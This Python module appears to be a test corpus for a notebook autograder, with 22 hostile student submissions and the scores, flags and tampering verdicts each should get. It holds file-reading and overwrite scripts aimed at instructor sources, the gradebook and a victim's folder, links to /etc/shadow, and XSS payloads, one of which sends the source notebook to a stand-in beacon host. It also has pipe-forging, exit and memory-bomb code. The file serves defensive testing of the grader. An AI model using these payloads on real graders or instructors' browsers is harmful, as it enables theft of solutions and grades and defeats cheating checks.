"""Issue 17's hostile class: 22 submissions across ex01_perceptron and ex02_mlp, with expected outcomes.

None of them is in :mod:`corpus_cases`. They attack what the grader reads *around* the
notebook (hard and symbolic links, FIFOs, sockets, device nodes, duplicate and odd names,
timestamps of several kinds), what it parses (a 25 MB notebook, JSON nested too deeply),
what a kernel and a verification run send back (malformed and comm messages, output
floods, a closed or garbage-filled pipe, forged replies, one array named a thousand times,
``os._exit`` only outside the kernel) and what an instructor's browser renders (markdown,
HTML, SVG and JavaScript payloads). Several try to read ``source/``, the gradebook and the
victim student ``x00_victim``; the honeypot tokens below are planted there, so any leak would
show up in what the grader writes.

Each :class:`corpus_cases.Sub` states the expected score of every part (``None`` = manual),
flags, reasons, the tampering verdict and the status.
"""

from __future__ import annotations

import json
import os
import socket
import stat
from pathlib import Path

from corpus_build import add_cell_after, edit_cell, honest, set_solution, submit
from corpus_cases import A1, A2, FULL1, FULL2, WRONG_STEP, Sub, full

SOURCE_TOKEN = "HONEYPOT-SOURCE-7f3c9b"      # a markdown cell of source/<a>/<a>.ipynb
GRADEBOOK_TOKEN = "HONEYPOT-GRADEBOOK-2d81e4"  # a student's last name in gradebook.db
VICTIM_TOKEN = "HONEYPOT-VICTIM-a94c07"      # x00_victim's notes.txt, beside the notebooks
TOKENS = (SOURCE_TOKEN, GRADEBOOK_TOKEN, VICTIM_TOKEN)
VICTIM = "x00_victim"

ZERO1 = {k: 0.0 for k in FULL1}
ZERO2 = {k: 0.0 for k in FULL2}
AUTO0_1 = {k: (None if v is None else 0.0) for k, v in FULL1.items()}
AUTO0_2 = {k: (None if v is None else 0.0) for k, v in FULL2.items()}

IN_VERIFY = 'import sys as _s\n_outside = "ipykernel" not in _s.modules  # the verification run has no kernel\n'

READER = """
import glob, os
hits = []
for pattern in ["{course}/source/*/*", "{course}/gradebook.db", "{course}/submitted/{victim}/*/*",
                "../../{victim}/*/*", "../../../*/*/*", "/proc/1/root{course}/source/*/*", "/proc/*/cwd/*",
                "notes.txt", "data.csv", "x.csv", "data/*", "/tmp/*", "/home/*/*"]:
    for path in glob.glob(pattern):
        try:
            hits.append((path, open(path, "rb").read(3000)))
        except Exception as exc:
            hits.append((path, type(exc).__name__))
for target in ["{course}/submitted/{victim}/{a}/notes.txt", "../../{victim}/{a}/notes.txt"]:
    try:
        open(target, "a").write("overwritten")
        hits.append(("wrote", target))
    except Exception as exc:
        hits.append(("write refused", type(exc).__name__))
print("read:", hits)
"""

KERNEL_JUNK = """
from comm import create_comm
ip = get_ipython()
k = ip.kernel
parent = k.get_parent()
for msg_type, content in [("stream", {"name": "stdout"}), ("display_data", {"data": 5}),
                          ("execute_result", {"data": None}), ("error", {"traceback": 3}),
                          ("clear_output", {"wait": "maybe"}), ("update_display_data", {"transient": 1})]:
    try:
        k.session.send(k.iopub_socket, msg_type, content=content, parent=parent)
    except Exception as exc:
        print("not sent:", type(exc).__name__)
try:
    k.iopub_socket.send_multipart([b"junk", b"<IDS|MSG>", b"bad-signature", b"{", b"}", b"[]", b"null"])
except Exception as exc:
    print("raw junk not sent:", type(exc).__name__)
c = create_comm(target_name="flood")
blob = "y" * 2000
for i in range(30000):  # 60 MB of comm messages
    c.send({"i": i, "blob": blob})
print("junk sent")
"""

OUTPUT_FLOOD = """
import sys
from IPython.display import display, update_display
handle = display("start", display_id=True)
for i in range(500):
    update_display("z" * 2000 + str(i), display_id=handle.display_id)
for i in range(300):  # few enough messages that none is lost to nbclient's iopub timeout on a busy machine
    print(i, "z" * 5000)
    sys.stdout.flush()
"""

HTML_OUTPUTS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
beacon = "http://127.0.0.1:9/beacon"
display(HTML('<img src=x onerror="document.title=1"><script>window.pwned=1</script>'
             '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><form action="' + beacon + '"><button>go</button></form>'))
display(Javascript("window.pwned = 1; fetch('" + beacon + "')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=2</script></svg>'))
display(Markdown('[x](javascript:window.pwned=1) <img src=x onerror=window.pwned=1> <meta http-equiv="refresh" content="0;url=' + beacon + '">'))
display({"text/html": "<details open ontoggle=window.pwned=1>x</details>", "text/plain": "x"}, raw=True)
"""

MARKDOWN_ANSWER = """Because XOR is not linearly separable.
<script>fetch('/api/contents/source/ex01_perceptron/ex01_perceptron.ipynb').then(r => r.text()).then(t => fetch('http://127.0.0.1:9/?' + t))</script>
<img src=x onerror="window.pwned=1"> <svg><animate onbegin="window.pwned=1" attributeName=x dur=1s /></svg>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe> [click](javascript:window.pwned=1)
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>
<form action="http://127.0.0.1:9/"><input name=q><button>send</button></form>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/"> <base href="http://127.0.0.1:9/">
<div style="background:url(http://127.0.0.1:9/css)">x</div> ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
"""

EXIT_IN_VERIFY_CELL = IN_VERIFY + "import os\nif _outside:\n    os._exit(7)\n"
EXIT_IN_STEP = IN_VERIFY + """import os
_real_step = step
def step(z):
    if _outside:
        os._exit(7)
    return _real_step(z)
"""
CLOSE_FDS = IN_VERIFY + "import os\nif _outside:\n    os.closerange(0, 4096)\n"
PIPE_GARBAGE = IN_VERIFY + """import os
_real_tanh = tanh
def tanh(z):
    if _outside:
        for fd in range(3, 64):
            try:
                os.write(fd, b"\\x00garbage {not json\\n")
            except OSError:
                pass
    return _real_tanh(z)
"""
FORGED_REPLY = IN_VERIFY + """import os
_real_softmax = softmax
def softmax(Z):
    if _outside:
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"part": 99, "outcomes": []}\\n')
            except OSError:
                pass
    return _real_softmax(Z)
"""
REPLY_BOMB = IN_VERIFY + """import os
import numpy as np
_frame = _s._getframe()
while _frame is not None and "Encoder" not in _frame.f_globals:  # up to the runner's own globals
    _frame = _frame.f_back
if _outside and _frame is not None:  # one 32 MB array, named 1000 times in every reply
    _runner = _frame.f_globals
    np.save(os.path.join(_runner["OUT"], "big.npy"), np.zeros(4_000_000))
    _runner["Encoder"].__call__ = lambda self, v, depth=0: {"tuple": [{"nd": "big"}] * 1000}
"""
MEMORY_BOMB_VERIFY = IN_VERIFY + """import numpy as np
_real_relu = relu
def relu(z):
    if _outside:
        hog = np.empty(2 * 1024 ** 4, dtype=np.uint8)  # 2 TiB, past the sandbox's address-space limit
    return _real_relu(z)
"""


def _plain(course: Path, a: str) -> dict:
    """The honest notebook (as corpus_build makes it) without the source's honeypot cell."""
    nb = honest(course, a)
    nb["cells"] = [c for c in nb["cells"] if SOURCE_TOKEN not in "".join(c.get("source", ""))]
    return nb


def _folder(course: Path, student: str, a: str) -> Path:
    return course / "submitted" / student / a


def _sub(student, what, a, make, scores, **kw):
    return Sub(student, what, make, scores, assignment=a, **kw)


def _with(a, edit=None, extra=None, after=None):
    """``make(course, student)`` for an honest notebook, edited, then ``after(course, folder)``."""
    def make(course, student):
        nb = _plain(course, a)
        nb = edit(nb, course) if edit else nb
        folder = submit(course, student, a, nb, extra=extra)
        if after:
            after(course, folder)
        return folder
    return make


def _bind(make, student):
    return lambda course: make(course, student)


def _reader(a):
    return lambda nb, course: add_cell_after(nb, "setup", READER.format(course=course, victim=VICTIM, a=a))


def _cell(code):
    return lambda nb, course: add_cell_after(nb, "setup", code)


def _append(function, code, a=A1):
    """``code`` added to the end of the solution cell that defines ``function``."""
    from corpus_build import append_to_solution
    return lambda nb, course: append_to_solution(nb, function, code)


def _victim(course):
    for a in (A1, A2):
        folder = submit(course, VICTIM, a, _plain(course, a))
        (folder / "notes.txt").write_text(f"my private notes {VICTIM_TOKEN}\n")


def _hardlinks(course, folder):
    os.link(course / "source" / A1 / f"{A1}.ipynb", folder / "notes.txt")
    os.link(_folder(course, VICTIM, A1) / "notes.txt", folder / "data.csv")
    (folder / "timestamp.txt").write_text("yesterday-ish, around tea time")


def _specials(course, folder):
    os.mkfifo(folder / "data.csv")
    os.mknod(folder / "dev0", 0o666 | stat.S_IFCHR, os.makedev(1, 1))  # /dev/mem's numbers
    os.mknod(folder / "disk0", 0o666 | stat.S_IFBLK, os.makedev(7, 0))  # a loop device's
    here = os.getcwd()
    os.chdir(folder)  # a socket path must be short
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind("s.sock")
        s.close()
    finally:
        os.chdir(here)
    os.mkfifo(os.path.join(os.fsencode(folder), b"bad-\xff-name.csv"))
    (folder / "timestamp.txt").mkdir()


def _fifo_notebook(course, folder):
    (folder / f"{A1}.ipynb").unlink()
    os.mkfifo(folder / f"{A1}.ipynb")  # reading it would block forever
    (folder / "timestamp.txt").symlink_to("/etc/shadow")


def _linked_notebook(course, folder):
    (folder / f"{A1}.ipynb").unlink()
    os.link(_folder(course, VICTIM, A1) / f"{A1}.ipynb", folder / f"{A1}.ipynb")


def _symlinks(course, folder):
    (folder / "data").symlink_to(course / "source" / A1, target_is_directory=True)
    (folder / "x.csv").symlink_to(_folder(course, VICTIM, A1) / "notes.txt")


def _linked_folder(course):
    student = "x06_linked_folder"
    (course / "submitted" / student).mkdir(parents=True)
    (course / "submitted" / student / A1).symlink_to(_folder(course, VICTIM, A1), target_is_directory=True)


def _duplicates(course, folder):
    wrong = set_solution(_plain(course, A1), "step", WRONG_STEP)
    for name in ("EX01_PERCEPTRON.ipynb", f"{A1}.ipynb.ipynb", f"{A1} .ipynb"):
        (folder / name).write_text(json.dumps(wrong))
    (folder / f"{A1} (1).ipynb").mkdir()
    os.utime(folder / f"{A1}.ipynb", (-2_000_000_000, -2_000_000_000))  # before 1970
    with open(folder / "timestamp.txt", "wb") as f:  # 50 MB, sparse
        f.truncate(50 * 1024 ** 2)


def _markdown(nb, course):
    nb = edit_cell(nb, "xor_answer", lambda c: c.update(source=MARKDOWN_ANSWER))
    nb["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN_ANSWER,
                           "attachments": {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
                                           "y.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}})
    return nb


def _huge(course):
    nb = _plain(course, A1)
    nb["cells"][0].setdefault("metadata", {})["padding"] = "p" * (25 * 1024 ** 2)
    submit(course, "x12_huge_notebook", A1, nb)


def _nested(course):
    nb = _plain(course, A2)
    text = json.dumps(nb)
    depth = 200_000
    raw = text[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}"
    submit(course, "x13_nested_json", A2, raw=raw)


def _renamed(course, folder):
    (folder / f"{A2}.ipynb").rename(folder / f"{A2} (1).ipynb")
    wrong = set_solution(_plain(course, A2), "sigmoid", "def sigmoid(z):\n    return z * 0.0")
    (folder / f"{A2}-old.ipynb").write_text(json.dumps(wrong))
    os.utime(folder / f"{A2}-old.ipynb", (1_000_000_000, 1_000_000_000))
    (folder / "timestamp.txt").write_bytes(b"2026-01-\x00\x00\xff\xfe 12:00:00")


def _future(course, folder):
    (folder / "timestamp.txt").write_text("9999-12-31 23:59:59.999999 UTC")


def hostile_cases() -> list[Sub]:
    """The victim (honest, both assignments) and the 22 hostile submissions, in grading order."""
    tamper = dict(tamper=True, flags=["possible tampering"])
    cases = [
        ("x01_hardlinks", "hard links to source/'s notebook and the victim's notes; reads them; a garbage timestamp",
         A1, _with(A1, _reader(A1), after=_hardlinks), FULL1,
         dict(flags=["skipped notes.txt: a hard link to one of the course's own files",
                     "skipped data.csv: a hard link", "timestamp.txt could not be read"])),
        ("x02_special_files", "a FIFO, two device nodes, a socket, an undecodable file name; timestamp.txt a folder",
         A1, _with(A1, after=_specials), FULL1,
         dict(flags=["skipped data.csv: not a regular file", "skipped dev0: not a regular file",
                     "skipped bad-\\udcff-name.csv: not a regular file",
                     "skipped disk0: not a regular file", "skipped s.sock: not a regular file",
                     "timestamp.txt not read (not a regular file)"])),
        ("x03_fifo_notebook", "the notebook is a FIFO (a read would hang); timestamp.txt links to /etc/shadow",
         A1, _with(A1, after=_fifo_notebook), ZERO1,
         dict(status="missing", flags=["not graded: not a regular file", "timestamp.txt not read (a symbolic link)"])),
        ("x04_hardlinked_notebook", "the notebook is a hard link to the victim's notebook (graded, flagged)",
         A1, _with(A1, after=_linked_notebook), FULL1, dict(flags=["ex01_perceptron.ipynb is a hard link"])),
        ("x05_symlinks", "a folder linked to source/ and a file linked to the victim's notes; reads them",
         A1, _with(A1, _reader(A1), after=_symlinks), FULL1,
         dict(flags=["skipped data: a symbolic link", "skipped x.csv: a symbolic link"])),
        ("x06_linked_folder", "the submission folder is a symbolic link to the victim's",
         A1, None, ZERO1, dict(status="ungradable: the submission folder is a symbolic link")),
        ("x07_duplicates", "wrong copies under near names, a folder named like a notebook, mtime before 1970, "
         "a 50 MB timestamp.txt", A1, _with(A1, after=_duplicates), FULL1,
         dict(flags=["timestamp.txt not read (larger than 4096 bytes)"])),
        ("x08_markdown_payloads", "scripts, handlers, frames, forms, meta refresh, CSS and data: URLs in written "
         "answers and attachments", A1, _with(A1, _markdown), FULL1,
         dict(flags=["active HTML or links removed from"])),
        ("x09_kernel_junk", "malformed and unsigned iopub messages, 60 MB of comm messages",
         A1, _with(A1, _cell(KERNEL_JUNK)), FULL1, {}),
        ("x10_exit_in_verify_cell", "a cell that calls os._exit only in the verification run",
         A1, _with(A1, _cell(EXIT_IN_VERIFY_CELL)), FULL1, dict(flags=["(skipped)"])),
        ("x11_exit_in_verify_step", "step calls os._exit only in the verification run",
         A1, _with(A1, _append("step", EXIT_IN_STEP)), AUTO0_1, dict(reasons=["exited with status 7"], **tamper)),
        ("x12_huge_notebook", "a 25 MB notebook (above the 20 MB read at intake)",
         A1, None, ZERO1, dict(status="ungradable: the notebook file is 25 MB")),
        ("x13_nested_json", "a notebook whose JSON nests 200,000 lists", A2, None, ZERO2,
         dict(status="ungradable: the notebook's JSON is nested too deeply")),
        ("x14_closes_fds", "closes every file descriptor (the pipe too) in the verification run's setup",
         A2, _with(A2, _cell(CLOSE_FDS)), FULL2, dict(flags=["(skipped)"])),
        ("x15_pipe_garbage", "tanh writes garbage to every descriptor in the verification run",
         A2, _with(A2, _append("tanh", PIPE_GARBAGE)), full(FULL2, tanh_matches_reference=0.0),
         dict(reasons=["malformed message"], **tamper)),
        ("x16_reply_bomb", "every reply names one 32 MB array 1000 times", A2, _with(A2, _cell(REPLY_BOMB)), AUTO0_2,
         tamper),
        ("x17_memory_bomb_in_verify", "relu allocates 2 TiB in the verification run",
         A2, _with(A2, _append("relu", MEMORY_BOMB_VERIFY)),
         full(FULL2, relu_matches_reference=0.0, mlp_forward_matches_reference=0.0), dict(reasons=["MemoryError"],
                                                                                         **tamper)),
        ("x18_output_flood", "300 flushed 5 kB prints and 500 display updates (1.5 MB, 800 messages)", A2,
         _with(A2, _cell(OUTPUT_FLOOD)),
         FULL2, dict(flags=["output truncated"])),
        ("x19_html_outputs", "HTML, JavaScript, SVG and markdown payloads in outputs", A2,
         _with(A2, _cell(HTML_OUTPUTS)), FULL2, {}),
        ("x20_reader", "reads source/, the gradebook and the victim's folder, tries to write there", A2,
         _with(A2, _reader(A2)), FULL2, {}),
        ("x21_renamed_copies", "two renamed copies (an honest newer, a wrong older), a binary timestamp", A2,
         _with(A2, after=_renamed), FULL2,
         dict(flags=["graded ex02_mlp (1).ipynb", "not graded: ex02_mlp-old.ipynb",
                     "timestamp.txt could not be read"])),
        ("x22_forged_reply", "softmax forges a reply for another part; a timestamp in the year 9999", A2,
         _with(A2, _append("softmax", FORGED_REPLY), after=_future),
         full(FULL2, softmax_matches_reference=0.0, softmax_is_stable=0.0, mlp_forward_matches_reference=0.0),
         dict(reasons=["malformed message"], **tamper)),
    ]
    out = [Sub(VICTIM, "honest (both assignments), notes.txt holds a honeypot", _victim, FULL1)]
    for student, what, a, make, scores, kw in cases:
        if make is None:
            make = {"x06_linked_folder": _linked_folder, "x12_huge_notebook": _huge,
                    "x13_nested_json": _nested}[student]
        else:
            make = _bind(make, student)
        out.append(Sub(student, what, make, scores, assignment=a, **kw))
    return out
